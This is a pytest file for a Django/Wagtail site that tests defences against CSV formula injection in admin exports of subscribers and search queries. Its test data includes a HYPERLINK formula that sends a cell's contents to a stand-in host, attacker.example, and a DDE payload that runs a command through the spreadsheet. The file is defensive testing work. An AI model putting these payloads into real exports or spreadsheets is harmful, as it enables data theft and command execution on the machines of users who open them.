"""Exports open in a spreadsheet as the text people typed: a name or a search that looks like a
formula is never run (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.search_promotions.models import Query, QueryDailyHits

from home.models import ZeroResultDailyHits
from home.spreadsheets import inert
from newsletter.models import Subscriber

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+447700900123", "'+447700900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_looks_like_a_formula_is_shown_as_text(value, cell):
    assert inert(value) == cell


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_subscriber_named_like_a_formula_exports_as_text(admin_client):
    Subscriber.objects.create(email="x@example.org", name=HOSTILE, organisation="@org")
    rows = csv_rows(admin_client.get("/admin/newsletter/subscribers/?export=csv"))
    assert rows[1][:3] == ["x@example.org", "'" + HOSTILE, "'@org"]


def test_a_search_typed_like_a_formula_exports_as_text(admin_client):
    query = Query.get("=cmd|' /C calc'!A0")
    QueryDailyHits.objects.create(query=query, date="2026-11-01", hits=1)
    ZeroResultDailyHits.objects.create(query=query, date="2026-11-01", hits=1)
    rows = csv_rows(admin_client.get("/admin/reports/searches-with-no-results/?export=csv"))
    assert rows[1][0] == "'" + query.query_string


def test_wagtails_search_terms_report_exports_wordings_as_text(admin_client):
    query = Query.get("@SUM(1+1)*cmd")
    QueryDailyHits.objects.create(query=query, date=timezone.localdate(), hits=3)
    report = admin_client.get(reverse("wagtailsearchpromotions:search_terms"))
    assert report.status_code == 200
    assert query.query_string in report.content.decode()
    rows = csv_rows(
        admin_client.get(reverse("wagtailsearchpromotions:search_terms") + "?export=csv")
    )
    assert rows[1][0] == "'" + query.query_string
